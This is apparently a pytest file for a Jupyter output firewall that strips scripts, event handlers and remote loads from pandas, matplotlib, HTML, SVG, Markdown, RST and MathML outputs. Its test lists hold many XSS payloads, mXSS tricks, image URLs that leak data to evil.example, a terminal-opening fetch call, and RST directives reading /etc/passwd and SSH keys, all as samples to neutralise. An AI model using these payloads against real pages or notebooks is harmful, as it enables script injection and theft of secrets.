"""The output firewall: real pandas/matplotlib outputs survive, hostile ones are neutralised.

The pandas and matplotlib outputs are rendered here on the host by trusted
test code (no cell code runs).
"""

from __future__ import annotations

import io
import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from sandbox_kernel.outputs import (
    OutputFirewall,
    SvgError,
    is_safe_type,
    markdown_problems,
    sanitize_html,
    sanitize_svg,
)
from security.inert import html_problems

np = pytest.importorskip("numpy")
pd = pytest.importorskip("pandas")
matplotlib = pytest.importorskip("matplotlib")
matplotlib.use("agg")
import matplotlib.pyplot as plt  # noqa: E402

FW = OutputFirewall("sanitize")
HANDLER = re.compile(r"<[^>]*\s(on[a-z]+)\s*=", re.I)


def display(data: dict, metadata: dict | None = None) -> dict:
    return {"data": data, "metadata": metadata or {}, "transient": {}}


def normalise(html: str) -> str:
    return re.sub(r"\s+", "", html)


# ---------------------------------------------------------------------------
# Ordinary outputs survive
# ---------------------------------------------------------------------------


def test_pandas_table_and_its_own_styling_survive_without_a_notice():
    df = pd.DataFrame({"a": [1, 2], "b": ["x<y", "z & w"], "c": [1.5, np.nan]}, index=["r1", "r2"])
    html = df._repr_html_()
    content, notices = FW.filter("execute_result", {"data": {"text/html": html, "text/plain": repr(df)},
                                                     "metadata": {}, "execution_count": 1})
    clean = content["data"]["text/html"]
    assert notices == []  # nothing the reader would miss was removed
    # pandas' rules select its own table by class: kept, rebuilt from what was checked
    style = re.search(r"<style>(.*?)</style>", clean, re.S).group(1)
    assert ".dataframe thead th {text-align: right}" in style
    assert "<table" in clean and 'class="dataframe"' in clean
    expected = re.sub(r"<style.*?</style>", "", html, flags=re.S).replace("text-align: right;", "text-align:right")
    # the kept styling comes with a wrapper whose class every kept selector starts with
    unwrapped = re.fullmatch(r'<div class="(sbk-out-[0-9a-f]{12})">(.*)</div>', clean, re.S)
    assert unwrapped and style.startswith(f".{unwrapped.group(1)} .dataframe")
    assert normalise(re.sub(r"<style.*?</style>", "", unwrapped.group(2), flags=re.S)) == normalise(expected)
    assert content["data"]["text/plain"] == repr(df)


@pytest.mark.parametrize("css, kept", [
    (".t td {color: red; background-color: #eee}", ".t td {color: red; background-color: #eee}"),
    ("body {display: none}", ""),                                  # the whole page
    (".jp-Dialog {display: block}", ""),                           # JupyterLab's interface
    ("* {color: red}", ""),
    (".t {background: url(//127.0.0.1:9/b)}", ""),                 # loads an address
    (".t {color: red; list-style-image: url(x)}", ".t {color: red}"),
    ("@import url(//127.0.0.1:9/x.css); .t {color: red}", ".t {color: red}"),
    ("@media screen { body {display: none} }", ""),
    (".t::before {content: 'x'}", ""),                             # content is not allowed
    (".t {position: fixed; top: 0}", ""),                          # overlays the interface
    (".t {color: red}</style><script>alert(1)</script>", ".t {color: red}"),
])
def test_style_blocks_keep_only_rules_for_the_output_itself(css, kept):
    content, notices = FW.filter("display_data", {"data": {"text/html": f"<style>{css}</style><b class=t>x</b>"},
                                                   "metadata": {}})
    clean = content["data"]["text/html"]
    got = re.search(r"<style>(.*?)</style>", clean, re.S)
    assert re.sub(r"\.sbk-out-[0-9a-f]{12} ", "", got.group(1) if got else "") == kept
    assert "<script" not in clean
    assert bool(notices) == (kept != css)


def test_pandas_styler_keeps_table_and_cell_values():
    pytest.importorskip("jinja2")
    df = pd.DataFrame(np.arange(6).reshape(3, 2), columns=["x", "y"])
    html = df.style.format("{:.1f}").set_caption("Cap")._repr_html_()
    clean = sanitize_html(html)
    for cell in ("0.0", "5.0", "Cap", "<table", "<caption"):
        assert cell in clean
    assert " id=" not in clean


def test_matplotlib_svg_survives():
    fig, ax = plt.subplots()
    ax.plot([1, 2, 3], [3, 1, 2], "o-", label="line")
    ax.set_title("T <&>")
    ax.legend()
    ax.imshow(np.random.default_rng(0).random((4, 4)), extent=(1, 2, 1, 2))
    buf = io.StringIO()
    fig.savefig(buf, format="svg")
    plt.close(fig)
    svg = buf.getvalue()
    content, notices = FW.filter("display_data", display({"image/svg+xml": svg, "text/plain": "<Figure>"}))
    clean = content["data"]["image/svg+xml"]
    assert notices == []
    for tag in ("path", "use", "image", "clipPath", "g", "style", "defs"):
        assert len(re.findall(rf"<{tag}\b", clean)) == len(re.findall(rf"<{tag}\b", svg)), tag
    assert 'xlink:href="data:image/png;base64' in clean
    assert 'clip-path="url(#' in clean and 'viewBox="0 0' in clean


def test_svg_without_xmlns_is_drawn_as_jupyterlab_draws_it():
    bare = '<svg width="10" height="10"><circle cx="5" cy="5" r="4" fill="red" onclick="x()"/></svg>'
    out, notices = FW.filter("display_data", display({"image/svg+xml": bare}))
    svg = out["data"]["image/svg+xml"]
    assert 'xmlns="http://www.w3.org/2000/svg"' in svg and "<circle" in svg and 'fill="red"' in svg
    assert "onclick" not in svg and notices and "event handlers" in notices[0]


def test_matplotlib_png_and_safe_types_pass_unchanged():
    fig, ax = plt.subplots()
    ax.plot([1, 2])
    buf = io.BytesIO()
    fig.savefig(buf, format="png")
    plt.close(fig)
    import base64
    bundle = {
        "image/png": base64.b64encode(buf.getvalue()).decode(),
        "text/plain": "<Figure size 640x480 with 1 Axes>",
        "image/jpeg": "AAAA", "image/gif": "R0lG",
        "application/json": {"a": [1, 2]},
        "application/vnd.plotly.v1+json": {"data": [], "layout": {}},
        "application/vnd.vegalite.v5+json": {"mark": "bar"},
        "application/vnd.vega.v5+json": {"marks": []},
        "application/vnd.jupyter.widget-view+json": {"model_id": "abc", "version_major": 2, "version_minor": 0},
        "text/latex": r"$\frac{a}{b}$",
        "text/markdown": "# Title\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n`x < y` and <b>bold</b><br>",
    }
    content = display(bundle, {"image/png": {"width": 100}})
    out, notices = FW.filter("display_data", content)
    assert out is content and notices == []


def test_trust_passes_everything():
    fw = OutputFirewall("trust")
    content = display({"application/javascript": "alert(1)", "text/html": "<script>x</script>"})
    assert fw.filter("display_data", content) == (content, [])
    payload = [{"source": "page", "data": {"text/html": "<script>x</script>"}}]
    assert fw.filter_payload(payload) == (payload, [])


def test_other_message_types_untouched_and_bad_policy_refused():
    content = {"name": "stdout", "text": "<script>alert(1)</script>"}
    assert FW.filter("stream", content) == (content, [])
    assert FW.filter("display_data", {"data": "not a dict"}) == ({"data": "not a dict"}, [])
    with pytest.raises(ValueError, match="output_policy"):
        OutputFirewall("loose")


# ---------------------------------------------------------------------------
# Hostile outputs
# ---------------------------------------------------------------------------


@pytest.mark.parametrize("mime", ["application/javascript", "text/javascript", "application/x-javascript",
                                  "Application/JavaScript; charset=utf-8", "application/ecmascript"])
def test_javascript_dropped_with_notice(mime):
    content = display({mime: "fetch('/api/terminals',{method:'POST'})", "text/plain": "<IPython.Javascript>"},
                      {mime: {"x": 1}})
    out, notices = FW.filter("display_data", content)
    assert out["data"] == {"text/plain": "<IPython.Javascript>"} and out["metadata"] == {}
    assert len(notices) == 1
    assert notices[0].startswith("sandbox-kernel: removed ")
    assert notices[0].startswith("sandbox-kernel: removed JavaScript from this output (")
    assert "may not run code in your browser" in notices[0]  # words for the person reading the cell
    assert content["data"][mime]  # input not modified in place


def test_dropping_everything_leaves_a_plain_notice():
    out, notices = FW.filter("execute_result", {"data": {"application/javascript": "alert(1)"},
                                                "metadata": {}, "execution_count": 3})
    assert list(out["data"]) == ["text/plain"]
    assert "removed JavaScript" in out["data"]["text/plain"]
    assert out["execution_count"] == 3 and notices


def test_unknown_types_dropped_widget_view_kept():
    out, notices = FW.filter("display_data", display({
        "application/vnd.bokehjs_exec.v0+json": "", "application/pdf": "JVBER",
        "application/vnd.jupyter.widget-view+json": {"model_id": "m"}}))
    assert list(out["data"]) == ["application/vnd.jupyter.widget-view+json"]
    assert len(notices) == 1  # one notice per output, naming both
    assert "application/pdf rendering (a type not known to be safe)" in notices[0]
    assert "application/vnd.bokehjs_exec.v0+json" in notices[0]
    # charts are checked, not passed as safe; only the versions JupyterLab renders itself
    assert not is_safe_type("application/vnd.vegalite.v5+json") and not is_safe_type("application/vnd.vega.js")


HOSTILE_HTML = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil/x.js></SCRIPT>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=x OnErRoR=alert(1)>",
    "<img src=x onerror\x0c=alert(1)>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
    "<a href=\"&#106;&#97;vascript:alert(1)\">x</a>",
    "<a href=\"&#x6A;avascript&colon;alert(1)\">x</a>",
    "<a href=\"java&#x09;script:alert(1)\">x</a>",
    "<a href=\" javascript:alert(1)\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
    "<svg><script>alert(1)</script></svg>",
    "<svg onload=alert(1)>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=\"javascript:alert(1)\"></object>",
    "<embed src=\"data:text/html,<script>alert(1)</script>\">",
    "<base href=\"javascript:/\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<link rel=import href=\"//evil/x\">",
    "<form action=\"javascript:alert(1)\"><input type=submit></form>",
    "<button formaction=\"javascript:alert(1)\">x</button>",
    "<div style=\"width: expression(alert(1))\">x</div>",
    "<div style=\"background:url(javascript:alert(1))\">x</div>",
    "<div style=\"position:fixed;top:0;left:0;width:100%;height:100%\">fake dialog</div>",
    "<style>@import 'http://evil/x.css'; body{display:none}</style>",
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    "<img src=\"http://evil.example/leak?d=secret\">",
    "<img src=\"//evil.example/leak\">",
    "<img src=\"/\\evil.example/leak\">",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
    "<!--<img src=x onerror=alert(1)>-->",
    "<img id=\"jp-main-dock-panel\" name=\"getElementById\" src=\"data:image/png;base64,AA\">",
]


@pytest.mark.parametrize("html", HOSTILE_HTML)
def test_hostile_html_neutralised(html):
    clean = sanitize_html(html)
    low = clean.lower()
    assert "<script" not in low and not HANDLER.search(clean)
    for tag in ("<iframe", "<object", "<embed", "<base", "<meta", "<link", "<form", "<input",
                "<button", "<style", "<svg", "<math", "<template", "<noscript"):
        assert tag not in low
    assert "javascript:" not in low and "vbscript:" not in low and "data:text" not in low
    assert "expression(" not in low and "position" not in low and "url(" not in low
    assert "evil" not in low and " id=" not in low and " name=" not in low
    content, notices = FW.filter("display_data", display({"text/html": html}))
    shown = content["data"].get("text/html")
    # the firewall keeps inline MathML's presentation markup where it is stable (the same again)
    assert shown in (clean, sanitize_html(html, math=True)) or "text/plain" in content["data"]
    assert not html_problems(shown or ""), html_problems(shown or "")


def test_inline_mathml_presentation_markup_is_kept_as_stock_shows_it():
    """``<math>`` inside HTML (what a MathML-writing library returns): its presentation
    elements render as written, with no notice; a link, a style, foreign markup inside it
    go, and the known namespace-confusion trick loses all its MathML (the sanitiser's
    output must read the same when parsed again)."""
    formula = ('<p>Euler: <math display="block"><mrow><msup><mi>e</mi><mrow><mi>i</mi><mi>π</mi></mrow>'
               '</msup><mo>+</mo><mn>1</mn><mo>=</mo><mn>0</mn></mrow></math></p>')
    content, notices = FW.filter("display_data", display({"text/html": formula}))
    assert content["data"]["text/html"] == formula and notices == []
    hostile = '<math><mi href="javascript:alert(1)">a</mi><annotation-xml><img src=x onerror=f()></annotation-xml></math>'
    content, notices = FW.filter("display_data", display({"text/html": hostile}))
    shown = content["data"]["text/html"]  # (the <img> breaks out of the math as a browser reads it)
    assert shown.startswith("<math><mi>a</mi></math>") and not html_problems(shown) and len(notices) == 1
    mutation = '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>'
    content, notices = FW.filter("display_data", display({"text/html": mutation}))
    assert not html_problems(content["data"].get("text/html", "")) and len(notices) == 1


def test_html_notice_names_what_was_removed():
    _, notices = FW.filter("display_data", display({"text/html": "<b>ok</b><script>x</script><img src=x onerror=y>"}))
    assert len(notices) == 1 and notices[0].startswith("sandbox-kernel: removed ")
    assert "scripts" in notices[0] and "event handlers" in notices[0]


def test_data_image_in_html_kept():
    html = '<img src="data:image/png;base64,iVBORw0KGgo=" alt="p" width="10">'
    assert sanitize_html(html) == html


HOSTILE_SVG = [
    '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
    '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect/></svg>',
    '<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><body xmlns="http://www.w3.org/1999/xhtml">'
    '<img src="x" onerror="alert(1)"/></body></foreignObject></svg>',
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'
    '<a xlink:href="javascript:alert(1)"><circle r="5"/></a></svg>',
    '<svg xmlns="http://www.w3.org/2000/svg"><animate attributeName="href" to="javascript:alert(1)"/>'
    '<set attributeName="onmouseover" to="alert(1)"/></svg>',
    '<svg xmlns="http://www.w3.org/2000/svg"><use href="http://evil/x.svg#a"/></svg>',
    '<svg xmlns="http://www.w3.org/2000/svg"><image href="data:image/svg+xml,&lt;svg onload=alert(1)&gt;"/></svg>',
    '<svg xmlns="http://www.w3.org/2000/svg"><style>@import url(http://evil/x.css);</style></svg>',
    '<svg xmlns="http://www.w3.org/2000/svg"><rect style="fill:url(http://evil/x)"/></svg>',
    '<svg xmlns="http://www.w3.org/2000/svg"><rect OnClick="alert(1)" x="1"/></svg>',
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><g><g><script xlink:href="data:,alert(1)"/></g></g></svg>',
]


@pytest.mark.parametrize("svg", HOSTILE_SVG)
def test_hostile_svg_neutralised(svg):
    clean, removed = sanitize_svg(svg)
    low = clean.lower()
    assert removed
    for bad in ("<script", "foreignobject", "javascript:", "<animate", "<set", "evil", "onload", "onclick",
                "onmouseover", "@import", "svg onload"):
        assert bad not in low
    out, notices = FW.filter("display_data", display({"image/svg+xml": svg}))
    assert len(notices) == 1 and "(in the SVG image)" in notices[0]


@pytest.mark.parametrize("svg", [
    '<!DOCTYPE svg [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]><svg xmlns="http://www.w3.org/2000/svg">&b;</svg>',
    "<svg xmlns='http://www.w3.org/2000/svg'><g></svg>",
    "<html><script>alert(1)</script></html>",
    "<svg xmlns='http://www.w3.org/2000/svg'>" + "<g>" * 50000 + "</g>" * 50000 + "</svg>",
])
def test_unparseable_svg_dropped(svg):
    with pytest.raises(SvgError):
        sanitize_svg(svg)
    out, notices = FW.filter("display_data", display({"image/svg+xml": svg}))
    assert "image/svg+xml" not in out["data"] and "removed the SVG image (" in notices[0]


@pytest.mark.parametrize("md", [
    "hello <script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "[click](javascript:alert(1))",
    "[click](JAVA&#83;CRIPT:alert(1))",
    "<javascript:alert(1)>",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "![leak](https://evil.example/?d=secret)",
    r"$\href{javascript:alert(1)}{x}$",
    "<iframe src=//evil></iframe>",
    "<!-- x --><div onclick='x'>y</div>",
])
def test_unsafe_markdown_shown_as_plain_text(md):
    assert markdown_problems(md)
    out, notices = FW.filter("display_data", display({"text/markdown": md}))
    assert out["data"] == {"text/plain": md}
    assert notices and "text/markdown" in notices[0]


def test_refused_markdown_display_shows_its_source_not_the_object_repr():
    from IPython.core.formatters import DisplayFormatter
    from IPython.display import Markdown
    md = "Result: <span onclick='x'>**42**</span>"
    data, md_meta = DisplayFormatter().format(Markdown(md))  # what ipykernel sends for display(Markdown(...))
    assert data["text/plain"] == "<IPython.core.display.Markdown object>"
    out, notices = FW.filter("display_data", display(data, md_meta))
    assert out["data"] == {"text/plain": md}  # the notice says "shown as plain text": it is
    assert notices and "shown as plain text" in notices[0]


RST = ("Results\n=======\n\n.. list-table::\n   :header-rows: 1\n\n   * - a\n     - b\n"
       "   * - 1\n     - 2\n\nSee `Jupyter <https://jupyter.org>`_.\n")


@pytest.mark.parametrize("mime, value", [
    ("text/x-rst", RST),
    ("text/x-python", "def f(x):\n    return x < 1 and '<script>'\n"),
    ("text/x-sql", "SELECT * FROM t WHERE a < 3;"),
    ("text/yaml", "a: 1\nb: [2, 3]\n"),
])
def test_text_and_data_types_pass_as_stock(mime, value):
    content = display({mime: value, "text/plain": "x"})
    out, notices = FW.filter("display_data", content)
    assert notices == [] and out["data"] == content["data"]


@pytest.mark.parametrize("rst, why", [
    (".. raw:: html\n\n   <script>alert(1)</script>\n", "a raw directive"),
    ("..  Include:: /etc/passwd\n", "an include directive"),
    (".. csv-table:: t\n   :url: http://198.51.100.7/x.csv\n", "directive options that read a file"),
    (".. csv-table:: t\n   :file: /root/.ssh/id_rsa\n", "directive options that read a file"),
    ("`x <javascript:alert(1)>`_\n", "script addresses"),
])
def test_rst_that_runs_reads_or_fetches_when_built_is_shown_as_text(rst, why):
    out, notices = FW.filter("display_data", display({"text/x-rst": rst}))
    assert out["data"] == {"text/plain": rst}
    assert notices and "text/x-rst" in notices[0] and why in notices[0], notices


def test_latex_with_href_dropped_but_plain_kept():
    out, notices = FW.filter("display_data", display({"text/latex": r"$\href{javascript:alert(1)}{x}$",
                                                      "text/plain": "x"}))
    assert out["data"] == {"text/plain": "x"} and "math commands that make links" in notices[0]


def test_non_string_html_dropped():
    out, notices = FW.filter("display_data", display({"text/html": ["<b>", "x</b>"], "text/plain": "x"}))
    assert out["data"] == {"text/plain": "x"} and notices


def test_page_payload_filtered_and_other_payloads_kept():
    payload = [
        {"source": "page", "data": {"text/html": "<b>doc</b><script>x</script>", "text/plain": "doc"}, "start": 0},
        {"source": "set_next_input", "text": "print(1)", "replace": False},
    ]
    out, notices = FW.filter_payload(payload)
    assert out[0]["data"] == {"text/html": "<b>doc</b>", "text/plain": "doc"} and out[0]["start"] == 0
    assert out[1] is payload[1] and notices
    assert payload[0]["data"]["text/html"].endswith("</script>")
    clean = [{"source": "page", "data": {"text/plain": "doc"}}]
    assert FW.filter_payload(clean) == (clean, [])


# ---------------------------------------------------------------------------
# Property: no script or handler survives sanitising
# ---------------------------------------------------------------------------

_pieces = st.sampled_from([
    "<", ">", "/", "script", "SCRIPT", "sCrIpT", "img", "svg", "iframe", " ", "\t", "\n", "\x0c", "=",
    "on", "onerror", "ONLOAD", "onmouseover", "'", '"', "`", "javascript:", "&#106;", "&lt;", "<!--",
    "-->", "<![CDATA[", "]]>", "a", "href", "src", "x", "alert(1)", "style", "<b>", "</b>", "<p", "title",
    "<math>", "<mtext>", "<table>", "<noscript>", "<template>", "<textarea>", "<select>", "\x00",
])


def _assert_safe(clean: str) -> None:
    low = clean.lower()
    assert "<script" not in low
    assert not HANDLER.search(clean)
    for tag in re.findall(r"<[^>]*>", low):  # in markup, not as text
        assert "javascript:" not in re.sub(r"[\x00-\x20]", "", tag)


@settings(max_examples=400, deadline=None)
@given(st.lists(_pieces, max_size=40).map("".join))
def test_property_sanitized_html_has_no_script_or_handlers(source):
    clean = sanitize_html(source)
    _assert_safe(clean)
    assert sanitize_html(clean) == clean or _assert_safe(sanitize_html(clean)) is None


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=200))
def test_property_arbitrary_text(source):
    _assert_safe(sanitize_html(source))
    out, _ = FW.filter("display_data", display({"text/html": source, "text/markdown": source,
                                                "image/svg+xml": source}))
    assert set(out["data"]) <= {"text/html", "text/markdown", "image/svg+xml", "text/plain"}


# ---------------------------------------------------------------------------
# Property: a markdown image that is not inline is never rendered, however spelt
# ---------------------------------------------------------------------------

_slash = st.sampled_from(["/", "\\/", "&#47;", "&#x2F;", "&sol;", "%2F", "\\\\"])
_host = st.sampled_from(["127.0.0.1:9", "h", "x.test", "", "logo.png"])
_scheme = st.sampled_from(["", "http:", "HTTPS:", "h&#116;tp:", "ftp:", "javascript:", "data:text/html,"])


@settings(max_examples=300, deadline=None)
@given(_scheme, _slash, _slash, _host, st.sampled_from(["inline", "angle", "ref", "quoted-ref", "title"]))
def test_property_markdown_images_from_an_address_are_not_rendered(scheme, s1, s2, host, form):
    dest = f"{scheme}{s1}{s2}{host}/p.png"
    md = {"inline": f"![i]({dest})", "angle": f"![i](<{dest}>)", "ref": f"![i][r]\n\n[r]: {dest}",
          "quoted-ref": f"> ![i][r]\n>\n> [r]: {dest} 't'", "title": f'![i]({dest} "t")'}[form]
    out, notices = FW.filter("display_data", display({"text/markdown": md}))
    assert "text/markdown" not in out["data"] and notices


def test_markdown_inline_image_is_rendered():
    md = ("![dot](data:image/png;base64,iVBORw0KGgo=) and ![ref][d] <https://jupyter.org> <a@b.co>\n\n"
          "[d]: <data:image/gif;base64,R0lG>")
    assert markdown_problems(md) == []


# ---- issue 18 item 7: faithful where it is safe -----------------------------------------

def test_mathml_keeps_presentation_markup_and_loses_links_and_script():
    fw = OutputFirewall("sanitize")
    plain = '<math display="block"><mrow><msup><mi>x</mi><mn>2</mn></msup><mo>+</mo><mn>1</mn></mrow></math>'
    out, notices = fw.filter("display_data", {"data": {"application/mathml+xml": plain, "text/plain": "x**2+1"}})
    assert out["data"]["application/mathml+xml"] == plain and notices == []
    hostile = ('<math><mi href="javascript:alert(1)">x</mi><maction actiontype="statusline"><mi>y</mi></maction>'
               '<annotation-xml encoding="text/html"><script>alert(2)</script><img src="//h/i"></annotation-xml>'
               '<mi style="background:url(//h/s)">z</mi></math>')
    out, notices = fw.filter("display_data", {"data": {"application/mathml+xml": hostile}})
    kept = out["data"]["application/mathml+xml"]
    for bad in ("href", "script", "alert", "<img", "url(", "style", "maction", "annotation"):
        assert bad not in kept, (bad, kept)
    assert "<mi>x</mi>" in kept and len(notices) == 1 and "MathML" in notices[0]


def test_a_removed_script_leaves_no_stray_object_repr():
    """display(Javascript(...)) has only IPython's default repr beside the script: once the
    script is removed, that line says nothing, so the output is the notice instead."""
    fw = OutputFirewall("sanitize")
    out, notices = fw.filter("display_data", {"data": {
        "application/javascript": "alert(1)", "text/plain": "<IPython.core.display.Javascript object>"}})
    assert out["data"] == {"text/plain": notices[0]} and "JavaScript" in notices[0]
    # a real text form stays
    out, _ = fw.filter("display_data", {"data": {"application/javascript": "alert(1)", "text/plain": "chart"}})
    assert out["data"] == {"text/plain": "chart"}


def test_a_styler_keeps_its_colours_and_ids_cannot_reach_the_page():
    """pandas' Styler colours cells through rules on their ids: the ids are kept, prefixed
    with the output's own wrapper, and the rules rewritten to match them; no notice.  An id
    can then clobber nothing of the page (``document.getElementById``, window names), and
    one posing as JupyterLab's is dropped."""
    import html as html_mod

    import pandas as pd

    styled = pd.DataFrame({"a": [1, 2], "b": [3, 1]}).style.highlight_max(color="yellow").to_html()
    content, notices = FW.filter("display_data", display({"text/html": styled}))
    out = content["data"]["text/html"]
    assert notices == []
    scope = re.match(r'<div class="(sbk-out-[0-9a-f]{12})">', out).group(1)
    ids = set(re.findall(r' id="([^"]+)"', out))
    assert ids and all(i.startswith(scope + "-") for i in ids)
    rule = re.search(r"<style>(.*?)</style>", out, re.S).group(1)
    for selector in re.findall(r"#([\w-]+)", rule):  # every rule's id is an element's id
        assert selector in ids and "yellow" in rule
    clean = FW.filter("display_data", display({"text/html": '<p id="jp-main-dock-panel">x</p><p id="ok">y</p>'}))[0]
    assert 'id="jp-main-dock-panel"' not in clean["data"]["text/html"]
    assert re.search(r'id="sbk-out-[0-9a-f]{12}-ok"', html_mod.unescape(clean["data"]["text/html"]))


@pytest.mark.parametrize("html", ['<details open><summary>More</summary>text</details>',
                                  '<progress value="3" max="10">30%</progress>',
                                  '<meter value="0.6" min="0" max="1" low="0.2" high="0.8" optimum="0.5">60%</meter>',
                                  '<a href="https://example.org/" target="_blank">in a new tab</a>'])
def test_disclosure_gauges_and_new_tab_links_show_as_written(html):
    """``<details open>``, ``<progress>``, ``<meter>`` and a link opening a new tab (given
    ``rel="noopener"``) run nothing and fetch nothing: kept as written (an open disclosure
    stays open), with no notice."""
    content, notices = FW.filter("display_data", display({"text/html": html}))
    assert notices == []
    kept = content["data"]["text/html"]
    if html.startswith("<details"):
        assert kept.startswith("<details open") and "<summary>More</summary>" in kept
    else:
        tag = html.split()[0]
        assert kept.startswith(tag) and all(a in kept for a in re.findall(r' \w+="[^"]*"', html)), kept


# ---------------------------------------------------------------------------
# What the firewall does not sanitise (C26): too big, too deep
# ---------------------------------------------------------------------------


def test_html_nested_past_the_parsers_depth_is_removed_naming_the_depth_and_the_text_stays():
    """100,000 nested ``<div>``: the HTML parser's time grows with the square of the depth
    (49 s here); the firewall names the depth instead, and the text form stays."""
    from sandbox_kernel.outputs.html import HTML_MAX_DEPTH

    deep = "<div>" * 100_000 + "x" + "</div>" * 100_000
    out, notices = FW.filter("display_data", display({"text/html": deep, "text/plain": "<HTML object>x"}))
    assert out["data"] == {"text/plain": "<HTML object>x"}
    assert len(notices) == 1 and "nested 100,000 deep" in notices[0] and f"{HTML_MAX_DEPTH:,}" in notices[0]


def test_html_nested_within_the_depth_and_a_long_attribute_are_sanitised_and_kept():
    """C26's other two: 10,000 nested ``<div>`` and a 2 MB attribute value pass as written."""
    nested = "<div>" * 10_000 + "x" + "</div>" * 10_000
    long_title = '<div title="' + "a" * 2_000_000 + '">x</div>'
    for html in (nested, long_title):
        out, notices = FW.filter("display_data", display({"text/html": html, "text/plain": "p"}))
        assert notices == [] and out["data"]["text/html"].count("<div") == html.count("<div")


def test_html_over_the_size_limit_is_removed_naming_its_size_and_the_tables_text_stays():
    """A 100,000-row table, 24 MB of HTML: removed with its size named (sanitising it took
    5 s in the proxy and JupyterLab barely draws it); pandas' text form stays."""
    import numpy as np
    import pandas as pd
    from sandbox_kernel.outputs.html import HTML_MAX_CHARS

    df = pd.DataFrame(np.random.default_rng(0).random((1_000, 8)))
    head, rest = df.to_html().split("<tbody>")
    rows, tail = rest.split("</tbody>")
    html = f"{head}<tbody>{rows * 100}</tbody>{tail}"  # 100,000 rows
    assert len(html) > HTML_MAX_CHARS
    out, notices = FW.filter("execute_result", {"data": {"text/html": html, "text/plain": repr(df)},
                                                "metadata": {}, "execution_count": 1})
    assert out["data"] == {"text/plain": repr(df)}
    assert len(notices) == 1 and f"{len(html) / 1e6:.1f} MB" in notices[0]
    # just under the limit it is sanitised as usual, with no notice
    small = df.to_html()
    out, notices = FW.filter("display_data", display({"text/html": small}))
    assert notices == [] and out["data"]["text/html"].count("<tr") == small.count("<tr")


def test_the_removal_inventory_counts_as_html_parser_reads():
    """The notice's inventory (regular expressions, linear) reads tags and attributes as
    ``html.parser`` does, skipping comments and script text."""
    from sandbox_kernel.outputs.html import _inventory

    inv = _inventory('<!-- <script>x</script> --><a HREF="javascript:1" onclick=\'f()\' rel=x>l</a>'
                     '<script>var s = "<b>";</script><p style="color: red; background: url(x)" class="a b">'
                     '<img src=data:image/png;base64,AA alt="&lt;">')
    assert inv[("tag", "script")] == 1 and inv[("tag", "b")] == 0
    assert inv[("attr", "a", "href", "javascript:1")] == 1 and inv[("attr", "a", "onclick", "f()")] == 1
    assert ("attr", "a", "rel", "x") not in inv
    assert inv[("css", "p", "color", "")] == 1 and inv[("css", "p", "background", "url")] == 1
    assert inv[("class", "p", "a")] == inv[("class", "p", "b")] == 1
    assert inv[("attr", "img", "src", "data:image/png;base64,AA")] == 1 and inv[("attr", "img", "alt", "<")] == 1
